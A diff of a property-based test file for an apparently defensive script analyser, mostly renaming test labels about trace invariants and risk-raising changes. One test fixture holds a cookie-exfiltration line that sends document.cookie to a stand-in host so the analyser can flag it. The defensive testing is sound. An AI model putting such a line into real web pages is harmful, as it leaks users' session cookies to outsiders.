@@ -49,7 +49,7 @@ function renamed(code: string): string {
 
 const runs = { numRuns: 60 };
 
-describe("what the trace does not depend on", { timeout: 60_000 }, () => {
+describe("invariants of the trace", { timeout: 60_000 }, () => {
 	test("names of variables", () => {
 		fc.assert(
 			fc.property(programs, (code) => {
@@ -83,7 +83,7 @@ describe("what the trace does not depend on", { timeout: 60_000 }, () => {
 		);
 	});
 
-	test("what was analysed before", () => {
+	test("earlier analyses", () => {
 		fc.assert(
 			fc.property(programs, programs, (one, other) => {
 				const first = analyzeScript({ code: one });
@@ -95,8 +95,8 @@ describe("what the trace does not depend on", { timeout: 60_000 }, () => {
 	});
 });
 
-describe("what makes a script no better", { timeout: 60_000 }, () => {
-	test("more statements at its end take no effect away", () => {
+describe("changes that never lower the risk", { timeout: 60_000 }, () => {
+	test("more statements at its end remove no sink", () => {
 		fc.assert(
 			fc.property(programs, statements, (code, more) => {
 				const after = sinksOf(`${code}\n${more}`).map((line) => line.split(/ [<(]/)[0]);
@@ -106,7 +106,7 @@ describe("what makes a script no better", { timeout: 60_000 }, () => {
 		);
 	});
 
-	test("a secret sent in so many words is red, whatever stands around it", () => {
+	test("a plainly sent secret is red, whatever code surrounds it", () => {
 		fc.assert(
 			fc.property(programs, programs, (before, after) => {
 				const leak = 'fetch("https://c.test/?jar=" + document.cookie);';
